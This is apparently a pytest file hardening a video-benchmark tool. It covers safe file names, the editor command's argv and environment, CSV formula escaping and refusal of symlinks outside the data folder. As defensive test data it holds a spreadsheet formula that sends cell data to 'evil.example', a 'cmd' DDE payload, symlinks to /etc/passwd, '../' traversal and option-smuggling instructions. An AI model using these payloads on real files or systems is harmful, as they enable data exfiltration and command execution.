"""Issue 23 (hardening, round 3), items 1, 3-6 and 14: edited-video names, the command editor's argv and
environment, trust_remote_code, CSV formula cells, links out of data.edited_dir, and the identity editor."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import sys
import textwrap
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import yaml

from helpers.common import REPO, cove_overrides
from vbench_ray.configure import load_config
from vbench_ray.video.io import VideoReader

COVE = REPO / "configs" / "cove.yaml"
EDITORS = REPO / "configs" / "editors"


def _odd_checklist(cove_data: dict, path: Path, ids: list) -> Path:
    """The synthetic checklist's first tasks under other ids (their sources, instructions and questions kept)."""
    tasks = json.loads(Path(cove_data["checklist"]).read_text())[: len(ids)]
    path.write_text(json.dumps([{**t, "id": i} for t, i in zip(tasks, ids)]))
    return path


def _case_error(row: dict) -> str:
    """A CoVE case's recorded failure: a load error, or (edited video missing or refused) an edited-video one."""
    return row.get("error_load") or row.get("error_edited") or ""


def _cove_cfg(data: dict, out: Path, *extra: str):
    return load_config(COVE, cove_overrides(data, out, "metrics.enabled=[SSIM]", *extra))


# ----------------------------------------------------------------------------- item 1: one id, one video


def test_unique_component_keeps_plain_ids_and_never_merges_two():
    from vbench_ray.safepaths import unique_component

    assert unique_component("204") == "204" and unique_component("a_b") == "a_b"  # the official {id}.mp4
    digest = hashlib.sha256(b"a b").hexdigest()[:16]
    assert unique_component("a b") == f"a_b~{digest}" != unique_component("a_b")
    names = {unique_component(t) for t in ("a b", "a_b", "a/b", "a\\b", "a:b", "", ".", "..", "-x", "_x")}
    assert len(names) == 10
    assert all("/" not in n and n not in (".", "..") and not n.startswith("-") for n in names)
    assert all(re.fullmatch(r"[A-Za-z0-9._+=~-]+", n) for n in names)  # harmless characters only
    long = "x" * 200
    assert len(unique_component(long)) == 128 and unique_component(long) != unique_component("x" * 201)


def test_two_ids_with_one_safe_form_get_two_videos_and_the_loader_finds_each(cove_data, tmp_path):
    """`a b` and `a_b` shared `a_b.mp4` before: the second case was "reused" and scored on the first's video."""
    from vbench_ray.benchmarks import get_benchmark
    from vbench_ray.editors.base import EditorPool

    tasks = json.loads(Path(cove_data["checklist"]).read_text())
    sources = [str(Path(cove_data["source_dir"]) / t["videoA_path"]) for t in tasks[:2]]
    assert Path(sources[0]).read_bytes() != Path(sources[1]).read_bytes()
    out = tmp_path / "edited"
    pool = EditorPool({"name": "identity", "layout": "flat", "seed": 0}, str(out))
    first, second = (
        pool({"case_id": cid, "variant": "base", "source_path": src}) for cid, src in zip(("a b", "a_b"), sources)
    )
    assert first["edited_path"] != second["edited_path"]
    assert "edit_seconds" in second  # edited, not found "already made"
    assert Path(second["edited_path"]) == out / "a_b.mp4"
    for row, src in ((first, sources[0]), (second, sources[1])):
        assert Path(row["edited_path"]).read_bytes() == Path(src).read_bytes()
    # a run reading data.edited_dir finds each case's own video by the same rule
    data = {**cove_data, "checklist": _odd_checklist(cove_data, tmp_path / "c.json", ["a b", "a_b"]), "edited_dir": out}
    rows = {r["case_id"]: r for r in get_benchmark("cove")(_cove_cfg(data, tmp_path / "run")).load_cases()}
    assert rows["a b"]["edited_path"] == first["edited_path"] and rows["a_b"]["edited_path"] == second["edited_path"]
    assert not _case_error(rows["a b"]) and not _case_error(rows["a_b"])


def test_a_hashed_name_is_never_read_as_another_tasks_number(cove_data, tmp_path):
    """The official patterns read the last number of a file name as its task id: a hashed name's hex digits must
    not give a numbered case the video of case `a b`."""
    from vbench_ray.benchmarks import get_benchmark
    from vbench_ray.editors.base import edited_name

    out = tmp_path / "edited"
    out.mkdir()
    name = edited_name("a b")
    (out / name).write_bytes(
        Path(
            cove_data["source_dir"], json.loads(Path(cove_data["checklist"]).read_text())[0]["videoA_path"]
        ).read_bytes()
    )
    digits = "".join(c if c.isdigit() else " " for c in name[:-4]).split()
    data = {
        **cove_data,
        "checklist": _odd_checklist(cove_data, tmp_path / "c.json", [int(digits[-1]), "a b"]),
        "edited_dir": out,
    }
    rows = get_benchmark("cove")(_cove_cfg(data, tmp_path / "run")).load_cases()
    assert "not found" in _case_error(rows[0]) and rows[1]["edited_path"] == str(out / name)


# ----------------------------------------------------------------------------- item 3: the command editor

# A model script with argparse: --output names where the video goes, --prompt takes the instruction.
ARGV_SCRIPT = textwrap.dedent("""
    import argparse, json, os, shutil, sys
    p = argparse.ArgumentParser()
    p.add_argument("--source")
    p.add_argument("--output")
    p.add_argument("--prompt", default="")
    p.add_argument("rest", nargs="*")
    a = p.parse_args()
    with open(os.environ["DUMP"], "w") as f:
        json.dump({"argv": sys.argv[1:], "output": a.output, "prompt": a.prompt, "env": dict(os.environ)}, f)
    shutil.copyfile(a.source, a.output)
""")


def _command_cfg(tmp_path, template: str, **env) -> dict:
    script = tmp_path / "model.py"
    script.write_text(ARGV_SCRIPT)
    return {
        "name": "command",
        "layout": "flat",
        "seed": 0,
        "command": f"{sys.executable} {script} {template}",
        "env": {"DUMP": str(tmp_path / "dump.json"), **env},
    }


@pytest.mark.parametrize(
    "template",
    [
        "--source {source} --output {output} {instruction}",
        "--source {source} --output {output} --prompt {instruction}",
        "--source {source} --output {output} -{instruction}",
    ],
)
def test_an_instruction_that_could_be_read_as_an_option_is_refused_up_front(cove_data, tmp_path, template):
    from vbench_ray.config import ConfigError
    from vbench_ray.preflight import check

    cfg_file = tmp_path / "ed.yaml"
    cfg_file.write_text(yaml.safe_dump(_command_cfg(tmp_path, template)))
    with pytest.raises(ConfigError) as err:
        check(_cove_cfg(cove_data, tmp_path / "run", f"editor.include={cfg_file}"))
    assert "editor.command" in str(err.value) and "--prompt={instruction}" in str(err.value)


@pytest.mark.parametrize(
    "template,argv_tail",
    [
        ("--source {source} --output {output} --prompt={instruction}", ["--prompt=--output=elsewhere.mp4"]),
        ("--source {source} --output {output} -- {instruction}", ["--", "--output=elsewhere.mp4"]),
    ],
)
def test_an_instruction_starting_with_dashes_stays_the_prompt(cove_data, tmp_path, template, argv_tail):
    from vbench_ray.editors.base import EditorPool

    src = str(Path(cove_data["source_dir"]) / json.loads(Path(cove_data["checklist"]).read_text())[0]["videoA_path"])
    pool = EditorPool(_command_cfg(tmp_path, template), str(tmp_path / "out"))
    row = pool({"case_id": "1", "variant": "base", "source_path": src, "instruction": "--output=elsewhere.mp4"})
    assert row.get("error_edit") is None, row
    dump = json.loads((tmp_path / "dump.json").read_text())
    assert dump["argv"][-len(argv_tail) :] == argv_tail
    assert dump["output"].endswith(".partial/1.mp4") and Path(row["edited_path"]) == tmp_path / "out" / "1.mp4"
    assert not list(tmp_path.rglob("elsewhere.mp4"))


def test_the_command_gets_a_minimal_environment_without_the_judge_key(cove_data, tmp_path, monkeypatch):
    from vbench_ray.editors.base import EditorPool

    key = "sk-live-Q7w9ZpL2xR4mN8vB6tY1"
    monkeypatch.setenv("VBR_JUDGE_KEY", key)  # e.g. judge.http.api_key_env=VBR_JUDGE_KEY
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")
    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "3")  # what Ray sets for a GPU actor
    monkeypatch.setenv("LANG", "C.UTF-8")
    monkeypatch.setenv("HF_HOME", "/models/hf")
    monkeypatch.setenv("HOME", str(tmp_path))
    src = str(Path(cove_data["source_dir"]) / json.loads(Path(cove_data["checklist"]).read_text())[0]["videoA_path"])
    cfg = _command_cfg(
        tmp_path,
        "--source {source} --output {output} --prompt={instruction}",
        PYTHONPATH="/opt/model",
        HF_HOME=None,
        NOT_SET_HERE=None,
    )
    row = EditorPool(cfg, str(tmp_path / "out"))(
        {"case_id": "1", "variant": "base", "source_path": src, "instruction": "make it red"}
    )
    assert row.get("error_edit") is None, row
    env = json.loads((tmp_path / "dump.json").read_text())["env"]
    assert key not in json.dumps(env) and "VBR_JUDGE_KEY" not in env and "AWS_SECRET_ACCESS_KEY" not in env
    assert env["CUDA_VISIBLE_DEVICES"] == "3" and env["LANG"] == "C.UTF-8" and env["PATH"] and env["HOME"]
    assert env["PYTHONPATH"] == "/opt/model" and env["DUMP"] == str(tmp_path / "dump.json")  # editor.env's values
    assert env["HF_HOME"] == "/models/hf" and "NOT_SET_HERE" not in env  # null: this process's value, if any
    # beyond the named variables the command sees nothing of the actor's environment (apart from what Python,
    # running the script, adds to its own: none of these names)
    allowed = {
        "PATH",
        "HOME",
        "USER",
        "LOGNAME",
        "SHELL",
        "LANG",
        "LANGUAGE",
        "TZ",
        "TMPDIR",
        "LD_LIBRARY_PATH",
        "DUMP",
        "PYTHONPATH",
        "HF_HOME",
    }
    assert {
        k for k in env if k not in allowed and not k.startswith(("LC_", "CUDA_", "NVIDIA_", "HIP_", "ROCR_", "NCCL_"))
    } == set()


# ----------------------------------------------------------------------------- item 4: trust_remote_code


def test_trust_remote_code_is_off_unless_a_config_turns_it_on(cove_data, tmp_path):
    from vbench_ray.judges.base import JudgeConfig

    assert JudgeConfig().vllm.trust_remote_code is False
    default = yaml.safe_load((REPO / "configs" / "judges" / "default.yaml").read_text())
    assert default["vllm"]["trust_remote_code"] is False
    cfg = load_config(COVE, cove_overrides(cove_data, tmp_path / "run"))
    assert cfg.judge.vllm.trust_remote_code is False and cfg.vqr.vllm.trust_remote_code is False
    for path in (REPO / "configs").rglob("*.yaml"):  # no bundled model needs it
        assert "trust_remote_code: true" not in path.read_text(), path


# ----------------------------------------------------------------------------- item 5: CSV formula cells


def test_leaderboard_csv_cells_cannot_be_formulas(tmp_path):
    from vbench_ray.compare import _write_csv

    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1", "-1", "\tx", "\rx", "plain"]
    entry = {"value": -0.5, "ci95": [-1.0, 0.25], "n": 3, "n_missing": 0, "rank": 1, "rank_ci95": [1, 2]}
    board = {
        "metrics": ["SSIM"],
        "rows": [
            {
                "label": n,
                "run_dir": f"/runs/{i}",
                "judge": "=cmd|' /C calc'!A0",
                "metrics": {"SSIM": entry},
                "options": {"-opt": "@x"},
            }
            for i, n in enumerate(names)
        ],
    }
    with open(_write_csv(board, tmp_path / "leaderboard.csv"), newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["model"] for r in rows] == ["'" + n for n in names[:-1]] + ["plain"]
    assert {r["judge"] for r in rows} == {"'=cmd|' /C calc'!A0"} and {r["option:-opt"] for r in rows} == {"'@x"}
    assert {(r["SSIM"], r["SSIM_ci_lo"], r["SSIM_ci_hi"]) for r in rows} == {("-0.5", "-1.0", "0.25")}  # numbers


# ----------------------------------------------------------------------------- item 6: links out of edited_dir


def test_cove_edited_videos_that_link_outside_edited_dir_are_refused_per_case(cove_copy, tmp_path):
    from vbench_ray.benchmarks import get_benchmark

    edited = Path(cove_copy["edited_dir"])
    tasks = json.loads(Path(cove_copy["checklist"]).read_text())
    ids = [str(t["id"]) for t in tasks]
    outside = tmp_path / "elsewhere.mp4"
    outside.write_bytes((edited / f"{ids[2]}.mp4").read_bytes())
    for target, cid in (
        ("/etc/passwd", ids[0]),
        (outside, ids[1]),  # a system file, a video elsewhere
        (Path(cove_copy["source_dir"]) / tasks[3]["videoA_path"], ids[3]),
    ):  # the source folder
        (edited / f"{cid}.mp4").unlink()
        (edited / f"{cid}.mp4").symlink_to(target)
    (edited / f"{ids[4]}.mp4").unlink()
    (edited / f"{ids[4]}.mp4").symlink_to(edited / f"{ids[5]}.mp4")  # a link that stays inside: allowed
    rows = {r["case_id"]: r for r in get_benchmark("cove")(_cove_cfg(cove_copy, tmp_path / "run")).load_cases()}
    for cid in (ids[0], ids[1], ids[3]):
        assert "escapes the data root" in _case_error(rows[cid]) and "data.edited_dir" in _case_error(rows[cid])
        assert not rows[cid].get("edited_path")
    for cid in (ids[2], ids[4], ids[5]):
        assert not _case_error(rows[cid]) and rows[cid]["edited_path"] == str(edited / f"{cid}.mp4")


def test_nrv_edited_videos_that_link_outside_edited_dir_are_refused_per_case(tmp_path):
    from vbench_ray.benchmarks.nrv import NRVBench
    from vbench_ray.synth.nrv import synth_nrv

    data = synth_nrv(tmp_path / "nrv", n=2, seed=0)
    edited = Path(data["edited_dir"])
    first, second = data["ids"]
    (edited / "jitter" / f"{first}.mp4").unlink()
    (edited / "jitter" / f"{first}.mp4").symlink_to(Path(data["root"]) / "videos" / f"{first}.mp4")
    (edited / "frozen" / f"{second}.mp4").unlink()
    (edited / "frozen" / f"{second}.mp4").symlink_to("/etc/passwd")
    (edited / "coherent" / f"{second}.mp4").unlink()  # inside edited_dir, another method's video: allowed
    (edited / "coherent" / f"{second}.mp4").symlink_to(edited / "jitter" / f"{second}.mp4")
    cfg = load_config(
        REPO / "configs" / "nrv.yaml",
        [
            f"data.annotations={data['annotations']}",
            f"data.edited_dir={edited}",
            f"output.dir={tmp_path / 'o'}",
            "wandb.mode=disabled",
        ],
    )
    rows = {r["case_id"]: r for r in NRVBench(cfg).load_cases()}
    for cid in (f"jitter:{first}", f"frozen:{second}"):
        assert "escapes the data root" in rows[cid]["error_load"] and rows[cid]["edited_path"] is None
    assert not rows[f"coherent:{second}"]["error_load"] and not rows[f"jitter:{second}"]["error_load"]
    flat = {
        r["case_id"]: r
        for r in NRVBench(
            load_config(
                REPO / "configs" / "nrv.yaml",
                [
                    f"data.annotations={data['annotations']}",
                    f"data.edited_dir={edited / 'coherent'}",
                    f"output.dir={tmp_path / 'o'}",
                    "wandb.mode=disabled",
                ],
            )
        ).load_cases()
    }
    assert "escapes the data root" in flat[second]["error_load"]  # flat: the folder itself is the root


# ----------------------------------------------------------------------------- item 14: the identity editor


def test_identity_on_a_gpu_models_block_keeps_the_source_and_asks_no_gpu(cove_data, tmp_path):
    """`editor.name=identity` over VACE's block: no VACE frame rules (a 128x96x24 source stays 128x96x24) and
    no GPU asked; `editor=identity` replaces the whole block."""
    from vbench_ray.editors.base import EditorPool, editor_stages
    from omegaconf import OmegaConf

    cfg = _cove_cfg(cove_data, tmp_path / "run", "editor=vace", "editor.name=identity")
    assert cfg.editor.num_gpus == 1.0 and cfg.editor.frame_rules.min_frames == 33  # VACE's block, renamed
    (stage,) = editor_stages(cfg)
    assert stage.num_gpus == 0.0
    src = str(Path(cove_data["source_dir"]) / json.loads(Path(cove_data["checklist"]).read_text())[0]["videoA_path"])
    pool = EditorPool(OmegaConf.to_container(cfg.editor), str(tmp_path / "out"))
    row = pool({"case_id": "1", "variant": "base", "source_path": src})
    info = VideoReader(row["edited_path"]).info
    assert (info.width, info.height, info.num_frames) == (128, 96, 24) and "edit_input_path" not in row
    whole = _cove_cfg(cove_data, tmp_path / "run", "editor=vace", "editor=identity").editor
    assert (whole.name, whole.num_gpus, whole.frame_rules.min_frames, whole.frame_rules.resolution) == (
        "identity",
        0.0,
        1,
        None,
    )


def test_a_gpu_editor_without_gpus_names_editor_num_gpus(cove_data, tmp_path):
    from vbench_ray.config import ConfigError
    from vbench_ray.editors.base import editor_stages
    from vbench_ray.pool_plan import plan_stages

    cfg = _cove_cfg(cove_data, tmp_path / "run", "editor=ditto", "editor.command=python x.py {output}")
    with pytest.raises(ConfigError) as err:
        plan_stages(editor_stages(cfg), {"CPU": 4.0, "GPU": 0.0})
    assert "editor.num_gpus=0" in str(err.value) and "metrics.<M>.device" not in str(err.value)


@pytest.mark.ray
def test_the_documented_identity_edit_command_runs_and_keeps_the_sources(
    ray_local, cove_data, tmp_path, capsys, monkeypatch
):
    """`vbench-ray edit configs/editors/identity.yaml ...` (README): every case edited, each video its source's
    bytes (128x96x24), ids `a b` and `a_b` in two files; a run over data.edited_dir then finds each."""
    from vbench_ray.benchmarks import get_benchmark
    from vbench_ray.cli import main

    monkeypatch.chdir(tmp_path)  # the README's relative path works from any folder
    checklist = _odd_checklist(cove_data, tmp_path / "c.json", ["a b", "a_b", 7])
    out = tmp_path / "edited"
    args = [
        f"data.checklist={checklist}",
        f"data.source_dir={cove_data['source_dir']}",
        f"output.dir={out}",
        "wandb.mode=disabled",
        "report.enabled=false",
    ]
    assert main(["edit", "configs/editors/identity.yaml", *args]) == 0
    assert "3 edited, 0 reused, 0 failed" in capsys.readouterr().out
    rows = {r["case_id"]: r for r in pq.read_table(out / "cases").to_pylist()}
    tasks = json.loads(checklist.read_text())
    assert len({r["edited_path"] for r in rows.values()}) == 3 and Path(rows["7"]["edited_path"]) == out / "7.mp4"
    for task in tasks:
        path = Path(rows[str(task["id"])]["edited_path"])
        assert path.read_bytes() == (Path(cove_data["source_dir"]) / task["videoA_path"]).read_bytes()
        info = VideoReader(str(path)).info
        assert (info.width, info.height, info.num_frames) == (128, 96, 24)
    data = {**cove_data, "checklist": checklist, "edited_dir": out}
    found = {
        r["case_id"]: r["edited_path"] for r in get_benchmark("cove")(_cove_cfg(data, tmp_path / "r")).load_cases()
    }
    assert found == {k: r["edited_path"] for k, r in rows.items()}
    # by name, over a GPU model's block: no GPU asked, the source's frames kept
    assert (
        main(["edit", "vace", "editor=identity", *args[:2], f"output.dir={tmp_path / 'v'}", *args[3:], "run.limit=1"])
        == 0
    )
    info = VideoReader(str(tmp_path / "v" / f"a_b~{hashlib.sha256(b'a b').hexdigest()[:16]}.mp4")).info
    assert (info.width, info.height, info.num_frames) == (128, 96, 24)


# ----------------------------------------------------------------------------- item 1, elsewhere: per-case files


def test_nrv_controls_and_judge_media_of_two_cases_never_share_a_file(tmp_path):
    """NRVBench case ids are `method:id`; `m:a b` and `m:a_b` had one rendered control (the second case reused
    the first's) and one judge-media folder (each case overwrote the other's images)."""
    from vbench_ray.benchmarks.nrv import NRVBench
    from vbench_ray.benchmarks.nrv_media import NRVFrameStage
    from vbench_ray.controls import ControlRenderer
    from vbench_ray.synth.nrv import synth_nrv

    data = synth_nrv(tmp_path / "nrv", n=2, seed=0)
    cfg = load_config(
        REPO / "configs" / "nrv.yaml",
        [
            f"data.annotations={data['annotations']}",
            f"data.edited_dir={data['edited_dir']}",
            f"output.dir={tmp_path / 'o'}",
            "wandb.mode=disabled",
        ],
    )
    rows = {r["case_id"]: r for r in NRVBench(cfg).load_cases()}
    first, second = data["ids"]
    pair = [{**rows[f"jitter:{first}"], "case_id": "m:a b"}, {**rows[f"jitter:{second}"], "case_id": "m:a_b"}]
    renderer = ControlRenderer(str(tmp_path / "controls"), seed=0)
    made = [
        renderer({**r, "variant": "control_shuffled", "variant_params": json.dumps({"control": "shuffled"})})
        for r in pair
    ]
    assert made[0]["edited_path"] != made[1]["edited_path"]
    assert all(Path(m["edited_path"]).is_file() for m in made)
    stage = NRVFrameStage({}, media_dir=str(tmp_path / "media"), judged=True)
    media = [stage(r) for r in pair]
    assert media[0]["nrve_flow"] != media[1]["nrve_flow"]
    assert Path(media[0]["nrve_flow"]).read_bytes() != Path(media[1]["nrve_flow"]).read_bytes()


def test_agentic_rollouts_never_share_the_judges_frames_folder(tmp_path):
    from vbench_ray.benchmarks.agentic import case_id_of, judge_frames_dir

    a, b = (judge_frames_dir(tmp_path, case_id_of(t, "0")) for t in ("a+b", "a_b"))  # both valid task ids
    assert a != b and a.parent == b.parent == tmp_path


def test_vqr_frames_of_two_cases_never_share_a_folder(tmp_path):
    """VQR's frames are reused when found (resume): `a b` and `a_b` in one folder scored the second case on the
    first case's frames; `..` wrote into vqr_frames/ itself."""
    import numpy as np

    from vbench_ray.benchmarks.cove_vqr import VQRFrames

    sink = VQRFrames(run_dir=str(tmp_path), frames=2)
    dark, bright = np.zeros((2, 16, 16, 3), np.uint8), np.full((2, 16, 16, 3), 250, np.uint8)
    paths = [
        json.loads(sink.write({"case_id": cid, "variant": "base"}, [0, 1], frames))
        for cid, frames in (("a b", dark), ("a_b", bright), ("..", dark))
    ]
    assert len({p for ps in paths for p in ps}) == 6
    from PIL import Image

    assert np.asarray(Image.open(paths[1][0])).mean() > 200  # its own frames, not the first case's
    assert all(Path(p).parent.parent == (tmp_path / "vqr_frames" / "base").resolve() for ps in paths for p in ps)


def test_src_entity_cache_is_read_only_inside_entities_dir(tmp_path):
    from vbench_ray.metrics.src_entities import entities_from_cache

    cache, secret = tmp_path / "cache", tmp_path / "secret"
    (cache / "3").mkdir(parents=True)
    secret.mkdir()
    (cache / "3" / "metadata.json").write_text(json.dumps({"preserved_entities": ["red car"]}))
    (secret / "metadata.json").write_text(json.dumps({"preserved_entities": ["not yours"]}))
    assert entities_from_cache(cache, 3) == ["red car"] and entities_from_cache(cache, 4) == []
    for bad in ("../secret", str(secret)):
        with pytest.raises(ValueError, match="escapes"):
            entities_from_cache(cache, bad)
